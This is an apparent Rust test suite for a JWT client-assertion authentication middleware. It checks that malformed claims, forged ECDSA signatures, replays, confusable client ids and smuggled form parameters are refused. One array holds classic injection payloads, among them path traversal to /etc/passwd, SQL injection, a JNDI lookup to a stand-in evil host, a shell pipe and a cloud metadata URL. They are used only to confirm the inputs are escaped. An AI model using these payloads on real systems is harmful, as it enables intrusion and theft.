//! Attacks on requests: values, replays, forms and answers. The numbers are those of the pitfalls
//! in `tests/README.md`. Pitfalls of key sets by URL are in `tests/jwks/`, of clocks in
//! `tests/replay/memory.rs`, and of several endpoints in `tests/http/endpoint.rs`.

use std::convert::Infallible;
use std::sync::{Arc, Mutex};

use crate::common::attempt::{Attempt, Change, description, flip_signature, send};
use crate::common::{
    CLIENT, Fixture, ISSUER, Jwt, SIGNER, Signer, client, fixture, form, key_set, now_or_never, outcome, verify, with,
};
use base64::Engine as _;
use base64::engine::general_purpose::URL_SAFE_NO_PAD;
use bytes::Bytes;
use http::{Request, Response};
use http_body_util::{BodyExt, Full};
use serde_json::{Value, json};
use tower::{Layer, Service, service_fn};
use tower_client_assertion::event::{self, Event};
use tower_client_assertion::keys::SkipReason;
use tower_client_assertion::policy::{Algorithm, Policy};
use tower_client_assertion::registry::Client;
use tower_client_assertion::rejection::{ClientFault, RejectionKind, ServerFault};
use tower_client_assertion::render::Opaque;
use tower_client_assertion::replay::MemoryReplay;
use tower_client_assertion::{ClientAssertionLayer, ClientIdentity, PreservedBodies};

const AUD: &str = "Unexpected aud claim";
const ISS: &str = "Unexpected iss claim";
const JTI: &str = "Unexpected jti claim";
const OTHER_SUB: &str = "iss and sub must both be the client id";
const SUB: &str = "Unexpected sub claim";
const TYP: &str = "Unexpected JWT type";
const KID: &str = "JWT header 'kid' is required";
const FAILED: &str = "Client authentication failed";
const NOT_A_FORM: &str = "Request body is not valid form data";
const SIGNATURE_LENGTH: &str = "Client assertion signature has the wrong length for its algorithm";
const SIGNATURE: &str = "Client assertion signature is invalid";
const REPLAYED: &str = "Client assertion has already been used";

/// The strictest profile that is not a vendor's.
fn strict() -> Fixture {
    fixture().policy(Policy::RFC7523).at_issuer()
}

fn layer() -> ClientAssertionLayer<PreservedBodies> {
    strict().layer()
}

fn jwt(client: &str) -> Jwt {
    Jwt::by(&SIGNER, client).claim("aud", ISSUER)
}

fn told(layer: &ClientAssertionLayer<PreservedBodies>, attempt: &Attempt) -> Option<String> {
    description(&send(layer, attempt))
}

#[track_caller]
fn assert_all_told(cases: &[(&str, Change, Option<&str>)]) {
    let layer = layer();
    for (name, change, text) in cases {
        assert_eq!(told(&layer, &Attempt::at_issuer(change)).as_deref(), *text, "{name}");
    }
}

#[test]
fn e25_e55_empty_strings_and_wrong_types_are_refused() {
    assert_all_told(&[
        ("iss", |a| a.claim("iss", ""), Some(ISS)),
        ("sub", |a| a.claim("sub", ""), Some(SUB)),
        ("jti", |a| a.claim("jti", ""), Some(JTI)),
        ("aud", |a| a.claim("aud", ""), Some(AUD)),
        ("kid", |a| a.jose("kid", ""), Some(KID)),
        ("kid as a number", |a| a.jose("kid", 1), Some(KID)),
        ("kid as a boolean", |a| a.jose("kid", false), Some(KID)),
        ("typ as null", |a| a.jose("typ", Value::Null), Some(TYP)),
        ("typ as a number", |a| a.jose("typ", 0), Some(TYP)),
        ("alg as an array", |a| a.jose("alg", json!(["ES384"])), Some("Signing algorithm is not allowed")),
        ("alg as an object", |a| a.jose("alg", json!({})), Some("Signing algorithm is not allowed")),
    ]);
}

const NASTY: [&str; 8] = [
    "../../../../etc/passwd",
    "' OR 1=1 --",
    "${jndi:ldap://evil.example/x}",
    "|/bin/sh",
    "%00%0d%0a",
    "<script>",
    "http://169.254.169.254/",
    "\u{202e}key",
];

#[test]
fn e26_e53_e54_sent_values_are_escaped_and_never_echoed() {
    let lines = Arc::new(Mutex::new(Vec::new()));
    let log = Arc::clone(&lines);
    let events = event::sink(move |event| {
        if let Event::Refused(refused) = event {
            let findings = refused.findings().iter().map(|finding| format!("{finding} {finding:?}"));
            let who = format!("{:?} {:?} {event:?}", refused.claimed_client(), refused.key_id());
            log.lock().unwrap().extend(findings.chain([who]));
        }
    });
    let verifier = strict().builder().events(events).build().unwrap();
    let layer = ClientAssertionLayer::new(verifier).preserve_body_types();
    for nasty in NASTY.into_iter().chain(["line\r\nbreak", "\u{1b}[31mred"]) {
        for (change, name) in [Attempt::jose::<&str>, Attempt::claim::<&str>].into_iter().zip(["kid", "sub"]) {
            let mut attempt = Attempt::at_issuer(|_| {});
            change(&mut attempt, name, nasty);
            let response = send(&layer, &attempt);
            assert_eq!(response.status(), 400, "{nasty:?}");
            let answered = format!("{response:?}");
            assert!(!answered.contains(nasty) && !answered.contains(CLIENT), "{answered}");
            let assertion = attempt.jwt.signed_by(attempt.signer);
            for line in lines.lock().unwrap().drain(..) {
                let printable = line.bytes().all(|byte| matches!(byte, b' '..=b'~'));
                let part = assertion.split('.').find(|part| line.contains(part));
                assert!(printable && part.is_none(), "{line}");
            }
        }
    }
    assert_all_told(&[
        ("kid of 257 bytes", |a| a.jose("kid", "k".repeat(257)), Some("JWT header 'kid' is too long")),
        ("jti of 257 bytes", |a| a.claim("jti", "j".repeat(257)), Some("jti claim is too long")),
        ("iss of 513 bytes", |a| a.claim("iss", "i".repeat(513)), Some("iss claim is too long")),
    ]);
}

/// RFC 6749, appendix A.1: a client id is printable ASCII, so there is nothing to normalize.
#[test]
fn e27_confusable_client_ids_are_refused() {
    for id in
        ["clinic\u{2010}7", "\u{441}linic-7", "clinic-\u{ff17}", "cli\u{301}nic-7", "clinic-7\u{200b}", "ｃlinic-7"]
    {
        let attempt = Attempt::of(&SIGNER, jwt(id));
        assert_eq!(told(&layer(), &attempt).as_deref(), Some(ISS), "{id}");
    }
    for id in ["Clinic-7", "clinic-7 ", " clinic-7", "clinic-7/"] {
        assert_eq!(told(&layer(), &Attempt::of(&SIGNER, jwt(id))).as_deref(), Some(FAILED), "{id}");
    }
}

/// CVE-2022-21449, and the other encoding of the same numbers.
#[test]
fn e30_ecdsa_signatures_are_two_fixed_length_nonzero_numbers() {
    let layer = layer();
    let n = "ffffffffffffffffffffffffffffffffffffffffffffffffc7634d81f4372ddf581a0db248b0a77aecec196accc52973";
    let n: Vec<u8> = (0..n.len()).step_by(2).map(|at| u8::from_str_radix(&n[at..at + 2], 16).unwrap()).collect();
    let (zero, one) = (vec![0; 48], [vec![0; 47], vec![1]].concat());
    let mut signatures = vec![vec![], vec![0; 95], vec![0; 97]];
    for r in [&zero, &one, &n] {
        signatures.extend([&zero, &one, &n].map(|s| [r.as_slice(), s].concat()));
    }
    let jwt = jwt(CLIENT);
    let right = jwt.signed();
    let (input, signature) = right.rsplit_once('.').unwrap();
    let signature = URL_SAFE_NO_PAD.decode(signature).unwrap();
    let integer = |number: &[u8]| [&[2, 49, 0], number].concat();
    let der = [&[0x30, 102][..], &integer(&signature[..48]), &integer(&signature[48..])].concat();
    signatures.push(der);
    for signature in signatures {
        let assertion = format!("{input}.{}", URL_SAFE_NO_PAD.encode(&signature));
        let attempt = Attempt::at_issuer(|a| a.parameter("client_assertion", &assertion));
        let text = if signature.len() == 96 { SIGNATURE } else { SIGNATURE_LENGTH };
        assert_eq!(told(&layer, &attempt).as_deref(), Some(text), "{signature:?}");
    }
    assert_eq!(told(&layer, &Attempt::at_issuer(|a| a.parameter("client_assertion", &right))), None);
}

#[test]
fn e32_e33_secrets_and_keys_for_other_uses_are_skipped() {
    let with = |members: Value| with(SIGNER.jwk(), members);
    let secret = json!({"kty": "oct", "kid": "key-1", "k": "c2VjcmV0LXNlY3JldC1zZWNyZXQtc2VjcmV0LXNlY3JldA"});
    let cases = [
        (secret, SkipReason::PrivateMembers),
        (with(json!({"d": "AQ"})), SkipReason::PrivateMembers),
        (with(json!({"k": 0})), SkipReason::PrivateMembers),
        (with(json!({"use": "enc"})), SkipReason::NotForSignatures),
        (with(json!({"key_ops": ["sign"]})), SkipReason::NotForSignatures),
        (with(json!({"key_ops": [""]})), SkipReason::NotForSignatures),
        (with(json!({"key_ops": ["verify", "verify"]})), SkipReason::NotForSignatures),
        (with(json!({"use": "sig", "key_ops": ["verify", "wrapKey"]})), SkipReason::NotForSignatures),
    ];
    for (jwk, reason) in cases {
        let keys = key_set(&[jwk.clone(), Signer::es256("other").jwk()]);
        assert_eq!(keys.skipped().iter().map(|key| key.reason()).collect::<Vec<_>>(), [reason], "{jwk}");
        let verifier = strict().clients([Client::new(CLIENT, keys).unwrap()]).build();
        let fault = outcome(&verifier, &self::jwt(CLIENT).signed()).unwrap_err();
        assert_eq!(fault, ClientFault::NoKey, "{jwk}");
    }
}

#[test]
fn e34_keys_sharing_a_kid_follow_the_profile() {
    let other = Signer::es384("key-1");
    for (policy, accepted) in [(Policy::RFC7523.with_key_trials(1), false), (Policy::RFC7523, true)] {
        let verifier = strict().policy(policy).keys(&[other.jwk(), SIGNER.jwk()]).build();
        assert_eq!(outcome(&verifier, &jwt(CLIENT).signed()).is_ok(), accepted);
    }
}

#[test]
fn e36_concurrent_replays_are_accepted_exactly_once() {
    let verifier = strict().build();
    for _ in 0..20 {
        let body = form(&jwt(CLIENT).signed());
        let barrier = std::sync::Barrier::new(8);
        let accepted: usize = std::thread::scope(|scope| {
            let attempt = || {
                barrier.wait();
                usize::from(verify(&verifier, &body).is_ok())
            };
            let threads: Vec<_> = (0..8).map(|_| scope.spawn(attempt)).collect();
            threads.into_iter().map(|thread| thread.join().unwrap()).sum()
        });
        assert_eq!(accepted, 1);
    }
}

#[test]
fn e37_a_jti_is_scoped_to_its_client() {
    let clients = ["a", "ab", "a b"].map(|id| Client::new(id, key_set(&[SIGNER.jwk()])).unwrap());
    let verifier = strict().clients(clients).build();
    for (client, jti) in [("a", "bc"), ("ab", "c"), ("a", "b c"), ("a b", "c"), ("ab", "bc"), ("a b", "bc")] {
        let body = form(&jwt(client).claim("jti", jti).signed());
        assert!(verify(&verifier, &body).is_ok(), "{client}, {jti}");
        assert!(verify(&verifier, &body).is_err(), "{client}, {jti}, again");
    }
}

#[test]
fn e38_replay_memory_is_bounded_and_full_stores_refuse() {
    assert_all_told(&[
        ("no exp", |a| a.drop_claim("exp"), Some("Missing exp claim")),
        ("a huge exp", |a| a.claim("exp", 1e15), Some("exp is too far in the future")),
    ]);
    let store = MemoryReplay::new(2).unwrap().per_client(3).unwrap();
    let verifier = strict().replay(store).build();
    let first = form(&jwt(CLIENT).signed());
    verify(&verifier, &first).unwrap();
    verify(&verifier, &form(&jwt(CLIENT).signed())).unwrap();
    let rejection = verify(&verifier, &form(&jwt(CLIENT).signed())).unwrap_err();
    assert_eq!(*rejection.kind(), RejectionKind::Server(ServerFault::ReplayStore));
    let replayed = verify(&verifier, &first).unwrap_err();
    assert_eq!(*replayed.kind(), RejectionKind::Client(ClientFault::Replayed), "nothing was dropped to make room");
}

#[test]
fn e39_forged_assertions_use_up_neither_jti_nor_store() {
    let store = Arc::new(MemoryReplay::new(10).unwrap());
    let layer = strict().replay(Arc::clone(&store)).layer();
    let mut attempt = Attempt::at_issuer(|a| a.mangle = flip_signature);
    for _ in 0..20 {
        assert_eq!(told(&layer, &attempt).as_deref(), Some(SIGNATURE));
    }
    assert_eq!(store.len(), 0);
    attempt.mangle = |text| text;
    assert_eq!(told(&layer, &attempt), None);
    assert_eq!(told(&layer, &attempt).as_deref(), Some(REPLAYED));
    assert_eq!(store.len(), 1);
}

#[test]
fn e45_e46_e47_forms_are_read_in_only_one_way() {
    let repeated = |name: &str| format!("Parameter '{name}' must not be repeated");
    let layer = layer();
    for tail in ["&client_id=%", "&client_id=%zz", "&client_id=%c0%af", "&client_id=%ff", "&client_id=%ed%a0%80"] {
        assert_eq!(told(&layer, &Attempt::at_issuer(|a| a.tail = tail)).as_deref(), Some(NOT_A_FORM), "{tail}");
    }
    for (tail, name) in [
        ("&client_assertion=x", "client_assertion"),
        ("&client_assertion=", "client_assertion"),
        ("&client%5fassertion=x", "client_assertion"),
        ("&client_assertion_type=x", "client_assertion_type"),
        ("&grant_type=client_credentials", "grant_type"),
        ("&scope=a&scope=b", "scope"),
        ("&client_id=clinic-7&%63lient_id=other", "client_id"),
    ] {
        let refused = told(&layer, &Attempt::at_issuer(|a| a.tail = tail));
        assert_eq!(refused, Some(repeated(name)), "{tail}");
    }
    assert_all_told(&[
        (
            "a semicolon is data",
            |a| a.tail = ";client_assertion=x&x=y;client_assertion=z",
            Some("Client assertion has characters that are not base64url"),
        ),
        ("other names", |a| a.tail = "&client_assertion[]=x&Client_Assertion=y&client_assertion%00=z", None),
        ("%00", |a| a.tail = "&client_id=clinic-7%00", Some("client_id does not match the client assertion")),
        (
            "in the query",
            |a| a.query = "?client_assertion=x",
            Some("Client credentials must not be sent in the query string"),
        ),
        (
            "escaped in the query",
            |a| a.query = "?x&client%5Fassertion",
            Some("Client credentials must not be sent in the query string"),
        ),
    ]);
    // The form escapes a plus. One that is not escaped is a space, and base64url has neither.
    let plus = Attempt::at_issuer(|a| a.mangle = |text| text.replacen('.', "+.", 1));
    let told = told(&layer, &plus);
    assert_eq!(told.as_deref(), Some("Client assertion has characters that are not base64url: '+' or '/'"));
}

#[test]
fn e48_e49_the_handler_gets_the_same_bytes_and_true_identity() {
    let clients = [client(), Client::new("admin", key_set(&[SIGNER.jwk()])).unwrap()];
    let verifier = strict().clients(clients).build();
    let spoofed = verify(&verifier, &form(&jwt("admin").signed())).unwrap();
    let handler = service_fn(|request: Request<Full<Bytes>>| async move {
        let identity = request.extensions().get::<ClientIdentity>().unwrap().client_id().to_string();
        let (length, chunked) =
            (request.headers()["content-length"].clone(), request.headers().contains_key("transfer-encoding"));
        let body = request.into_body().collect().await.unwrap().to_bytes();
        assert_eq!((length.to_str().unwrap(), chunked), (&*body.len().to_string(), false));
        Ok::<_, Infallible>(Response::builder().header("identity", identity).body(Full::<Bytes>::from(body)).unwrap())
    });
    let mut request = Attempt::at_issuer(|a| a.tail = "&note=%zz&note=a+b").request();
    let sent = now_or_never(request.body_mut().collect()).unwrap().to_bytes();
    *request.body_mut() = Full::from(sent.clone());
    request.extensions_mut().insert(spoofed);
    request.headers_mut().insert("transfer-encoding", "chunked".parse().unwrap());
    request.headers_mut().insert("x-client-id", "admin".parse().unwrap());
    let layer = ClientAssertionLayer::new(verifier).preserve_body_types();
    let response = now_or_never(layer.layer(handler).call(request)).unwrap();
    assert_eq!(response.headers()["identity"], CLIENT);
    assert_eq!(now_or_never(response.into_body().collect()).unwrap().to_bytes(), sent);
}

#[test]
fn e50_a_refusal_does_not_reveal_known_clients() {
    let layer = layer();
    let unknown = send(&layer, &Attempt::of(&SIGNER, jwt("stranger")));
    let no_key = send(&layer, &Attempt::at_issuer(|a| a.jose("kid", "key-2")));
    assert_eq!(
        (unknown.status(), unknown.headers(), unknown.body()),
        (no_key.status(), no_key.headers(), no_key.body())
    );
    assert_eq!(unknown.body(), r#"{"error":"invalid_client","error_description":"Client authentication failed"}"#);

    // For servers that prefer to reveal nothing, not even to a client's engineers.
    let client = client().with_signing_alg(Algorithm::ES384).unwrap();
    let opaque = strict().policy(Policy::OIDC).clients([client]).layer().render(Opaque);
    let refused = [
        Attempt::of(&SIGNER, jwt("stranger")),
        Attempt::at_issuer(|a| a.jose("kid", "key-2")),
        Attempt::at_issuer(|a| a.mangle = flip_signature),
        Attempt::at_issuer(|a| {
            a.drop_jose("kid");
            a.mangle = flip_signature;
        }),
        Attempt::at_issuer(|a| a.jose("alg", "HS256")),
        Attempt::at_issuer(|a| a.jose("alg", "ES256")),
    ];
    for attempt in &refused {
        let response = send(&opaque, attempt);
        assert_eq!((response.status().as_u16(), &response.body()[..]), (400, &br#"{"error":"invalid_client"}"#[..]));
        assert_eq!(response.headers(), send(&opaque, &refused[0]).headers());
    }
}

#[test]
fn e51_e52_other_kinds_of_jwt_are_refused() {
    assert_all_told(&[
        ("access token", |a| a.jose("typ", "at+jwt"), Some(TYP)),
        ("DPoP proof", |a| a.jose("typ", "dpop+jwt"), Some(TYP)),
        ("logout token", |a| a.jose("typ", "logout+jwt"), Some(TYP)),
        ("signed authorization request", |a| a.jose("typ", "oauth-authz-req+jwt"), Some(TYP)),
        ("introspection answer", |a| a.jose("typ", "application/token-introspection+jwt"), Some(TYP)),
        (
            "ID token",
            |a| {
                a.claim("iss", ISSUER);
                a.claim("sub", "a-user");
                a.claim("aud", CLIENT);
            },
            Some(OTHER_SUB),
        ),
        ("the subject of another", |a| a.claim("sub", "a-user"), Some(OTHER_SUB)),
        (
            "authorization grant",
            |a| {
                let grant = a.jwt.signed();
                a.drop_parameter("client_assertion");
                a.drop_parameter("client_assertion_type");
                a.parameter("grant_type", "urn:ietf:params:oauth:grant-type:jwt-bearer");
                a.parameter("assertion", &grant);
            },
            Some("Client authentication required"),
        ),
    ]);
    // A grant next to an assertion is up to the handler.
    assert_eq!(told(&layer(), &Attempt::at_issuer(|a| a.tail = "&assertion=junk")), None);
}
